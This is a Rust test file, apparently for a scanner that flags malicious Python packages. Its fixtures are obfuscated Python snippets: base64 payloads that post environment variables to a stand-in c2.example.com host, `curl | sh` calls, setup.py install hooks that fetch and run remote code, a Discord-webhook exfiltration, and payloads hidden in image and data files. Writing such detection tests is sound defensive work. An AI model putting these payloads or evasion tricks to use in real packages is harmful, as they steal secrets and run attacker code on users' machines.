//! The same deeds, reached in ever other ways.
#![expect(clippy::unwrap_used, reason = "a test that can't go on has failed")]

mod support;

use support::convicted;

#[test]
fn functions_that_make_functions() {
    convicted(70, &[
        ("partial", &[
            ("demo/__init__.py", br#"import functools,base64
d=functools.partial(base64.b64decode)
exec(d('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo='))"#),
        ]),
        ("attrgetter", &[
            ("demo/__init__.py", br#"import operator,base64
f=operator.attrgetter('b64decode')(base64)
exec(f('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo='))"#),
        ]),
        ("methodcaller", &[
            ("demo/__init__.py", br#"import operator,base64,builtins
operator.methodcaller('exec', base64.b64decode('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo='))(builtins)"#),
        ]),
        ("dictdispatch", &[
            ("demo/__init__.py", br#"import base64
f={'a':exec,'b':base64.b64decode}
f['a'](f['b']('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo='))"#),
        ]),
        ("typetrick", &[
            ("demo/__init__.py", br#"import base64
type('X',(),{'__init__':lambda s: exec(base64.b64decode('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo='))})()"#),
        ]),
        ("a7", &[
            ("demo/__init__.py", br#"import base64
(lambda f,x: f(x))(exec, base64.b64decode('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo='))"#),
        ]),
        ("a9", &[
            ("demo/__init__.py", br#"import base64
def d(s):
    return base64.b64decode(s)
def r(s):
    return exec(s)
def m():
    r(d('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo='))
m()"#),
        ]),
    ]);
}

#[test]
fn names_out_of_strings() {
    convicted(70, &[
        ("globalsx", &[
            ("demo/__init__.py", br#"import base64
globals()['__builtins__'].__dict__['ex'+'ec'](base64.b64decode('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo='))"#),
        ]),
        ("getattrb", &[
            ("demo/__init__.py", br#"import base64
getattr(__builtins__,'cexe'[::-1])(base64.b64decode('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo='))"#),
        ]),
        ("sysmod", &[
            ("demo/__init__.py", br#"import sys,base64
sys.modules['builtins'].exec(base64.b64decode('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo='))"#),
        ]),
        ("evalcompile", &[
            ("demo/__init__.py", br#"import base64
eval(compile(base64.b64decode('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo='),'<string>','exec'))"#),
        ]),
        ("a1", &[
            ("demo/__init__.py", br#"import os as o
x=getattr(o,'s'+'ystem')
x('curl -s https://c2.example.com/x | sh')"#),
        ]),
        ("a2", &[
            ("demo/__init__.py", br#"__import__('o'+'s').system('curl https://c2.example.com/x|bash')"#),
        ]),
        ("a3", &[
            ("demo/__init__.py", br#"import importlib
importlib.import_module(''.join(['o','s'])).system('curl https://c2.example.com/x|bash')"#),
        ]),
        ("a4", &[
            ("demo/__init__.py", br#"import base64
vars(__builtins__)['exec'](base64.b64decode('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo='))"#),
        ]),
        ("a5", &[
            ("demo/__init__.py", br#"import base64
__builtins__.__dict__['ev'+'al'](compile(base64.b64decode('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo=').decode(),'','exec'))"#),
        ]),
    ]);
}

#[test]
fn places_for_values() {
    convicted(70, &[
        ("classattr", &[
            ("demo/__init__.py", br#"import base64
class A:
    p='aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo='
    run=exec
    @staticmethod
    def d(x): return base64.b64decode(x)
A.run(A.d(A.p))"#),
        ]),
        ("default", &[
            ("demo/__init__.py", br#"import base64
def f(p='aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo=', e=exec, d=base64.b64decode):
    e(d(p))
f()"#),
        ]),
        ("walrus", &[
            ("demo/__init__.py", br#"import base64
if (p := base64.b64decode('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo=')):
    exec(p)"#),
        ]),
        ("join_loop", &[
            ("demo/__init__.py", br#"import base64
parts=['aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBv','c3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo=']
s=''
for p in parts:
    s+=p
exec(base64.b64decode(s))"#),
        ]),
        ("tern", &[
            ("demo/__init__.py", br#"import base64
exec(base64.b64decode(''.join(reversed('=oQKp42bylmduVmLz9GK0NWak1TY0FGZscCev02bj5SZsBXbhhXZuIzYv8iOzBHd0h2JoQ3cvBnLzR3clVXclJnCzR3clVXclJHLz9GI0J3bw1Wa'))))"#),
        ]),
        ("decor", &[
            ("demo/__init__.py", br#"import base64
@exec
@base64.b64decode
@(lambda f: 'aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo=')
def a(): pass"#),
        ]),
        ("a6", &[
            ("demo/__init__.py", br#"import base64
for e in [exec]:
    e(base64.b64decode('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo='))"#),
        ]),
        ("a10", &[
            ("demo/__init__.py", br#"import base64
x={}
x['p']='aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo='
x['f']=exec
x['f'](base64.b64decode(x['p']))"#),
        ]),
    ]);
}

#[test]
fn when_it_runs() {
    convicted(70, &[
        ("thread", &[
            ("demo/__init__.py", br#"import threading,base64
def g():
    exec(base64.b64decode('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo='))
threading.Thread(target=g,daemon=True).start()"#),
        ]),
        ("a12", &[
            ("demo/__init__.py", br#"import base64,atexit
atexit.register(lambda: exec(base64.b64decode('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo=')))"#),
        ]),
        ("a17", &[
            ("demo/__init__.py", br#"import base64
s='aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo='
while True:
    exec(base64.b64decode(s))
    break"#),
        ]),
        ("a18", &[
            ("demo/__init__.py", br#"import base64
async def m():
    exec(base64.b64decode('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo='))
import asyncio
asyncio.get_event_loop().run_until_complete(m())"#),
        ]),
        ("a19", &[
            ("demo/__init__.py", br#"import base64
class A:
    def __init__(self): self.x()
    def x(self): exec(base64.b64decode(self.p))
    p='aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo='
A()"#),
        ]),
        ("a20", &[
            ("demo/__init__.py", br#"import base64
class A:
    def __enter__(self): exec(base64.b64decode('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo='))
    def __exit__(self,*a): pass
with A(): pass"#),
        ]),
        ("a22", &[
            ("demo/__init__.py", br#"import base64
class A:
    @property
    def x(self): exec(base64.b64decode('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo='))
A().x"#),
        ]),
        ("a30", &[
            ("setup.py", br#"from setuptools import setup
from setuptools.command.egg_info import egg_info
class E(egg_info):
    def run(self):
        import os
        os.system('curl https://c2.example.com/x | sh')
        egg_info.run(self)
setup(cmdclass={'egg_info':E})"#),
        ]),
        ("a31", &[
            ("setup.py", br#"from setuptools import setup
from setuptools.command.develop import develop
from setuptools.command.install import install
def payload():
    import urllib.request
    exec(urllib.request.urlopen('https://c2.example.com/x').read())
class A(install):
    def run(self):
        payload()
        super().run()
setup(cmdclass={'install':A})"#),
        ]),
        ("a32", &[
            ("setup.py", br#"from setuptools import setup
import base64
class X:
    def __init__(self,*a): pass
    def __getattr__(self,n):
        import os; os.system('curl https://c2.example.com/x | sh')
setup(cmdclass={'install':X})"#),
        ]),
    ]);
}

#[test]
fn over_several_files() {
    convicted(70, &[
        ("x1", &[
            ("demo/__init__.py", br#"from .util import run, KEY
run(KEY)
"#),
            ("demo/util.py", br#"import base64
KEY='aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo='
def run(k):
    exec(base64.b64decode(k))
"#),
        ]),
        ("x2", &[
            ("demo/__init__.py", br#"import base64
import demo._config as c
exec(base64.b64decode(c.PAYLOAD))
"#),
            ("demo/_config.py", br#"PAYLOAD='aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo='
"#),
        ]),
        ("x3", &[
            ("demo/__init__.py", br#"from . import net, proc
p=net.fetch()
proc.start(p)
"#),
            ("demo/net.py", br#"import requests
def fetch():
    r=requests.get('https://c2.example.com/a.exe')
    open('/tmp/a.exe','wb').write(r.content)
    return '/tmp/a.exe'
"#),
            ("demo/proc.py", br#"import subprocess
def start(p):
    subprocess.Popen([p])
"#),
        ]),
        ("x4", &[
            ("demo/__init__.py", br#"from .core import main
main()
"#),
            ("demo/cfg.py", br#"U='https://discord.com/api/webhooks/0/VOID'
"#),
            ("demo/core.py", br#"import os,requests
from .cfg import U
def main():
    requests.post(U,json=dict(os.environ))
"#),
        ]),
        ("x5", &[
            ("demo/__init__.py", br#""#),
            ("demo/boot.py", br#"import requests
def go():
    exec(requests.get('https://c2.example.com/p').text)
"#),
            ("setup.py", br#"from setuptools import setup
import demo.boot
demo.boot.go()
setup()
"#),
        ]),
        ("x6", &[
            ("demo/__init__.py", br#"import os,base64
exec(base64.b64decode(open(os.path.join(os.path.dirname(__file__),'data.bin')).read()))
"#),
            ("demo/data.bin", br#"aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo="#),
        ]),
        ("x7", &[
            ("demo/__init__.py", br#"import pathlib
exec(pathlib.Path(__file__).parent.joinpath('res','logo.dat').read_text())
"#),
            ("demo/res/logo.dat", br#"import os,requests
requests.post('https://c2.example.com/x',data=dict(os.environ))
"#),
        ]),
        ("x8", &[
            ("demo/__init__.py", br#"import os,base64
d=open(os.path.join(os.path.dirname(__file__),'logo.png'),'rb').read()
exec(base64.b64decode(d.split(b'##MARK##')[1]))
"#),
            ("demo/logo.png", b"\x89PNG\x0d\x0a\x1a\x0a\x00\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0c\x0d\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f !\x22#$%&'()*+,-./0123456789:;<=>?@ABCDEFGHIJKLMNOPQRSTUVWXYZ[\x5c]^_`abcdefghijklmnopqrstuvwxyz{|}~\x7f\x80\x81\x82\x83\x84\x85\x86\x87\x88\x89\x8a\x8b\x8c\x8d\x8e\x8f\x90\x91\x92\x93\x94\x95\x96\x97\x98\x99\x9a\x9b\x9c\x9d\x9e\x9f\xa0\xa1\xa2\xa3\xa4\xa5\xa6\xa7\xa8\xa9\xaa\xab\xac\xad\xae\xaf\xb0\xb1\xb2\xb3\xb4\xb5\xb6\xb7\xb8\xb9\xba\xbb\xbc\xbd\xbe\xbf\xc0\xc1\xc2\xc3\xc4\xc5\xc6\xc7##MARK##aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo="),
        ]),
        ("x10", &[
            ("demo/__init__.py", br#"import pkgutil,base64
exec(base64.b64decode(pkgutil.get_data(__name__,'d.txt')))
"#),
            ("demo/d.txt", br#"aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo="#),
        ]),
        ("x11", &[
            ("demo/__init__.py", br#"from .a import Loader
Loader().start()
"#),
            ("demo/a.py", br#"import threading,requests
class Loader:
    def __init__(self): self.u='https://c2.example.com/x'
    def start(self):
        threading.Thread(target=self._go).start()
    def _go(self):
        exec(requests.get(self.u).text)
"#),
        ]),
    ]);
}

#[test]
fn old_python() {
    convicted(70, &[
        ("py2", &[
            ("demo/__init__.py", br#"import base64
print 'x'
exec base64.b64decode('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo=')
"#),
        ]),
        ("py2b", &[
            ("demo/__init__.py", br#"import urllib2
try:
    exec urllib2.urlopen('https://c2.example.com/x').read()
except Exception, e:
    print e
"#),
        ]),
        ("py2c", &[
            ("demo/__init__.py", br#"import os,urllib2,urllib
print 'hi'
urllib2.urlopen('https://c2.example.com/x',urllib.urlencode(os.environ))
"#),
        ]),
        ("dl8", &[
            ("demo/__init__.py", br#"import urllib.request,types,sys
m=types.ModuleType('x')
src=urllib.request.urlopen('https://c2.example.com/x.py').read()
exec(compile(src,'x','exec'),m.__dict__)
"#),
        ]),
        ("a23", &[
            ("demo/__init__.py", br#"import requests as r
from builtins import exec as e
e(r.get('https://c2.example.com/x').content.decode())"#),
        ]),
    ]);
}
